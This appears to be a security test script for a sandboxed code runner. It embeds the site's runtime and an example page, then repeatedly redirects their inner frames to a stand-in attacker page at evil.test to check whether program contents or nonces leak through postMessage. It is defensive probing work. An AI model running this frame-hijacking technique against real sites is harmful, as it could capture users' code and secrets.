// Frames the sandbox and an embedded example, and sends every frame inside to its own page before the sandbox is ready: it is told nothing.
// prints: nothing of a program
// known: whoever frames the page may navigate frames in it where the host sends no frame-ancestors; what is put there gets no answer.

const heard = [];
addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
const frames = ['SITEruntime/index.html', 'SITEembed/waiting/all-at-once/'].map((src) => {
  const frame = document.createElement('iframe');
  frame.src = src;
  document.body.append(frame);
  return frame;
});
const taken = new Set();
const end = performance.now() + 3_000;
while (performance.now() < end) {
  for (const { contentWindow } of frames)
    for (const pick of [(w) => w[0], (w) => w[0]?.[0]])
      try {
        const w = pick(contentWindow);
        if (!w || taken.has(w)) continue;
        taken.add(w);
        w.location = 'http://evil.test/cage.html';
      } catch {}
  await new Promise((r) => setTimeout(r, 0));
}
const told = heard.filter((text) => /"script"|greeting|spawn|nonce|files/.test(text));
return told.length ? `LEAK ${told[0].slice(0, 200)}` : 'nothing of a program';
